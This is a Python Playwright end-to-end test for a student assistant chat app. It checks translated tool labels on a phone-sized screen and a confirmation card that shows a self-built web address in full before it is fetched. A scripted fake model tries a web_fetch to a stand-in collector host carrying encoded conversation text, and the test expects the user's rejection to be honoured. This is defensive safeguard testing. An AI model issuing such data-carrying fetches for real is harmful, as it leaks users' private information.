"""In Chromium, on a phone-sized screen: tool steps show translated labels (the raw tool name only in
the details fold), and a web address the assistant built itself waits on a card showing all of it."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from accounts.tests.factories import UserFactory
from agent.tests.factories import reply, route, tool_call
from smartmate.tests.live_server import log_in, wait_until

EXFILTRATING = ("https://collector.example.net/c?d=%E9%AB%98%E6%95%B0%E6%8C%82%E7%A7%91"
                "&more=a-rather-long-tail-that-would-push-a-narrow-screen-sideways-if-it-did-not-wrap")


@pytest.mark.e2e
def test_labels_instead_of_tool_names_and_a_card_with_the_whole_address(page, chat_server, transactional_db):
    base_url, fake = chat_server
    fake.script(route("execute"), tool_call("query_tasks", {}), tool_call("web_fetch", {"url": EXFILTRATING}),
                reply("好的，不读了。"))
    student = UserFactory()
    page.set_viewport_size({"width": 390, "height": 844})
    page.set_default_timeout(30_000)
    page.base_url = base_url
    log_in(page, student.username)
    page.goto(f"{base_url}/assistant/")

    page.fill("[data-test=chat-input]", "查一下我的补考安排")
    page.press("[data-test=chat-input]", "Enter")

    tool = page.locator("[data-test=chat-tool]").first
    expect(tool.locator("[data-test=chat-tool-label]")).to_have_text("查询随口记", timeout=30_000)  # a busy machine
    expect(tool.locator("[data-test=chat-tool-name]")).to_be_hidden()  # folded away
    expect(tool.locator(".chat-tool-head")).not_to_contain_text("query_tasks")
    tool.locator("[data-test=chat-tool-details] > summary").click()
    expect(tool.locator("[data-test=chat-tool-name]")).to_have_text("query_tasks")

    card = page.locator("[data-test=chat-confirm-card]")
    expect(card.locator("h3")).to_have_text("让助手打开这个网址吗？", timeout=30_000)
    expect(card.locator("[data-test=chat-card-url]")).to_have_text(EXFILTRATING)
    expect(card).to_contain_text("请确认里面没有带上你对话中的私人信息。")
    expect(page.locator("[data-test=chat-tool-label]").nth(1)).to_have_text("读取网页")
    wait_until(page, "() => document.documentElement.scrollWidth <= document.documentElement.clientWidth")

    card.locator("[data-test=chat-reject]").click()
    answer = page.locator("[data-test=chat-assistant-message] .chat-text").last
    expect(answer).to_contain_text("好的，不读了。", timeout=30_000)
    expect(answer).to_contain_text("未完成")  # the honest summary: the declined read is listed as not done
    assert fake.pending == 0
